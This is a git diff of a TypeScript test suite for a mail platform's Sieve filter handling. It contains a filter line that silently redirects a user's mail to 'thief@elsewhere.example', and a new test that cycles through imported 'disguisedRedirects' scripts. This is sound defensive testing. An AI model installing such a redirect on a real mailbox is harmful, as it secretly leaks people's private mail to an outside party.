@@ -6,6 +6,7 @@ import { eventually, openInbox, trySend, waitForLetter } from '#test/mail-platfo
 import { describeOnMailServers } from '#test/mail-platform/programs.ts'
 import { putFilter } from '#test/mail-platform/sieve-client.ts'
 import { type MailWorld, startMailWorld } from '#test/mail-platform/world.ts'
+import { disguisedRedirects } from '#test/support/sieve-scripts.ts'
 
 describeOnMailServers('a filter', () => {
   let world: MailWorld
@@ -42,9 +43,9 @@ describeOnMailServers('a filter', () => {
     await provision('nadia')
     await provision('peter')
     await putFilter(mail.sieve, authOf('nadia'), 'require "copy"; redirect :copy "thief@elsewhere.example";')
-    await platform.deactivateFilters?.(authOf('nadia').user)
-    await platform.deactivateFilters?.(authOf('nadia').user)
-    await platform.deactivateFilters?.(authOf('peter').user)
+    await platform.filters?.deactivate(authOf('nadia').user)
+    await platform.filters?.deactivate(authOf('nadia').user)
+    await platform.filters?.deactivate(authOf('peter').user)
     const inbox = await openInbox(mail, authOf('nadia'))
     await write(authOf('nadia').user, 'For her alone')
     await waitForLetter(inbox, 'For her alone', 10_000)
@@ -53,5 +54,17 @@ describeOnMailServers('a filter', () => {
     await write(authOf('nadia').user, 'For her sister too')
     await eventually(() => forwarded('For her sister too').length > 0)
     assert.equal(forwarded('For her alone').length, 0)
+  })
+
+  it('that the portal is tried with is one that the server would follow', async () => {
+    const { authOf, platform, provision } = world
+    await provision('tilda')
+    const tilda = authOf('tilda').user
+    for (const text of disguisedRedirects) {
+      assert.equal(await platform.filters?.write(tilda, { name: 'tried', text }), 'done', text)
+      assert.equal(await platform.filters?.activate(tilda, 'tried'), 'done', text)
+      assert.equal(await platform.filters?.read(tilda, 'tried'), text)
+    }
+    assert.equal(await platform.filters?.write(tilda, { name: 'nonsense', text: 'nonsense' }), 'refused')
   })
 })
